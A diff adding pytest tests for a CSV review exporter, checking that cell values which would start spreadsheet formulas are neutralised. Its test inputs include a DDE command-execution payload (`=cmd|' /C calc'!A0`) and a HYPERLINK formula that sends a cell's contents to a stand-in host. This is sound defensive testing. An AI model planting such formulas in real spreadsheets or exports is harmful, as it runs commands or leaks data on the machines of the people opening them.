@@ -1,0 +1,77 @@
+"""A review as CSV: what a spreadsheet program shows is what was written, and runs nothing."""
+
+import csv
+import io
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from linkage_rules.tools.outputs.csv_file import harmless
+
+AS_OF = ("--as-of", "2023-05-01")
+DANGEROUS = "=+-@＝＋－＠"
+
+
+@pytest.fixture
+def rows(run, library_entry, tmp_path):
+    """The rows of a review, by heading; its records are those of the small policy or others."""
+
+    def reviewed(records=None):
+        source = library_entry / "projects.json"
+        if records is not None:
+            source = tmp_path / "records.json"
+            source.write_text(json.dumps(records), "utf-8")
+        out = tmp_path / "review.csv"
+        assert run("review", "policy.pol", source, *AS_OF, "--out", out).exit_code in (0, 2)
+        return list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
+
+    return reviewed
+
+
+def test_every_record_has_a_row_with_verdicts_reasons_and_what_is_missing(rows):
+    first, forbidden, unreadable, conflicting, pending = rows()
+    assert (first["编号"], first["审核结论"], first["入库"]) == ("A-1", "符合要求", "可以")
+    assert forbidden["审核结论"] == "有不得办理的事项"
+    assert "1. 不得入库：无方案不得入库（依据 一）" in forbidden["禁止或冲突的理由和依据"]
+    assert forbidden["须整改的事项"] == "经营主体应当报告，尚未做到（依据 二）"
+    assert (unreadable["审核结论"], unreadable["编号"]) == ("无法读取", "A-3")
+    assert "不是整数分" in unreadable["禁止或冲突的理由和依据"]
+    assert conflicting["入库"] == "有冲突"
+    assert "现已发生" not in conflicting["禁止或冲突的理由和依据"]
+    assert pending["须补充的信息"].startswith("决定能否办理：有方案、应急\n")
+
+
+def test_excel_takes_the_file_for_utf_8(run, library_entry, tmp_path):
+    run("review", "policy.pol", "projects.json", *AS_OF, "--out", tmp_path / "a.csv")
+    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "\t=1+1", "\r=1+1", "  =1+1",
+        '=HYPERLINK("http://example.invalid/?"&A1,"点我")', "\u00a0=1", "\u3000=1",
+    ],
+)  # fmt: skip
+def test_a_name_that_starts_a_formula_is_text_in_the_file(rows, name):
+    (row,) = rows([{"id": name, "name": name}])
+    for cell in (row["编号"], row["名称"]):
+        assert cell.startswith("'")
+        assert cell.lstrip("'")[:1] not in "\t\r"
+
+
+@given(st.text())
+def test_no_text_at_all_starts_a_formula_or_breaks_out_of_its_cell(text):
+    written = io.StringIO()
+    csv.writer(written, quoting=csv.QUOTE_ALL).writerow([harmless(text), "next"])
+    (row,) = csv.reader(io.StringIO(written.getvalue(), newline=""))
+    assert row == [harmless(text), "next"]
+    assert not row[0].lstrip().startswith(tuple(DANGEROUS))
+    assert not set(row[0]) & {"\t", "\r", "\0", "\x1b"}
+
+
+@given(st.text(st.characters(categories=["Lo", "Nd"])))
+def test_an_ordinary_text_is_written_as_it_is(text):
+    assert harmless(text) == text
